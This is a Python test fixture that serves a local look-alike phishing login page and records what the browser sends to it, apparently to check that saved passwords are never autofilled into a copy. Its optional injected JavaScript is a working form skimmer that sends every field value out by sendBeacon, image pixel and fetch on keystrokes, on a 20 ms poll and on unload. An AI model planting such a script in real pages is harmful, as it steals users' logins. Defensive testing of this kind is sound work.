"""A look-alike sign-in page on a second local port, remembering everything sent to it.

It serves a platform's replica login form at every address, posting back to itself, as a
phishing copy would. Tests assert it never receives the saved password. With `beacons` on, the
copy also sends whatever is in its fields back to itself the moment it gets there (on input
and change events, on a 20 ms timer, as the page is hidden or unloaded) by `sendBeacon`, an
image request and `fetch`, so a value put into it by any means reaches the log.
"""

from __future__ import annotations

import threading
from http.server import BaseHTTPRequestHandler

from tests.sites.local_server import LocalServer
from tests.sites.replica import SITES

# Everything in the copy's fields, sent home by every means a page has, as soon as it is there.
BEACONS = """<script>
  let last = "";
  const send = (why) => {
    const values = [...document.querySelectorAll("input")].map((i) => i.name + "=" + i.value);
    const data = values.join("&");
    // Leaving, it always says so: a test waits for that word before it reads the log.
    if (why !== "pagehide" && (!/=[^&]/.test(data) || (why === "poll" && data === last))) return;
    last = data;
    navigator.sendBeacon("/beacon?" + why, data);
    new Image().src = "/pixel?" + encodeURIComponent(data);
    fetch("/fetch", {method: "POST", body: data, keepalive: true}).catch(() => {});
  };
  for (const kind of ["input", "change", "keyup", "focusout"]) {
    document.addEventListener(kind, () => send(kind), true);
  }
  addEventListener("pagehide", () => send("pagehide"));
  addEventListener("beforeunload", () => send("unload"));
  document.addEventListener("visibilitychange", () => send("hidden"));
  setInterval(() => send("poll"), 20);
</script>"""


class LookAlike(LocalServer):
    """ThreadingHTTPServer on 127.0.0.1, port 0, serving `platform`'s login form copy."""

    def __init__(self, platform: str, *, beacons: bool = False) -> None:
        page = (SITES / platform / "login.html").read_text(encoding="utf-8")
        self.page = page.replace("{{error}}", "").replace(f'action="/{platform}/', 'action="/')
        if beacons:
            self.page = self.page.replace("</body>", BEACONS + "</body>")
        self.received: list[str] = []  # "GET /path", "POST /path body=…"
        self._lock = threading.Lock()
        self._listen(_handler(self))

    def record(self, entry: str) -> None:
        with self._lock:
            self.received.append(entry)


def _handler(site: LookAlike) -> type[BaseHTTPRequestHandler]:
    class Handler(BaseHTTPRequestHandler):
        def log_message(self, format: str, *args: object) -> None:
            pass

        def do_GET(self) -> None:
            if self.path != "/favicon.ico":  # the browser asks for it by itself
                site.record(f"GET {self.path}")
            body = site.page.encode()
            self.send_response(200)
            self.send_header("Content-Type", "text/html; charset=utf-8")
            self.send_header("Content-Length", str(len(body)))
            self.end_headers()
            self.wfile.write(body)

        def do_POST(self) -> None:
            length = int(self.headers.get("Content-Length", 0))
            site.record(f"POST {self.path} body={self.rfile.read(length).decode(errors='replace')}")
            self.do_GET()

    return Handler
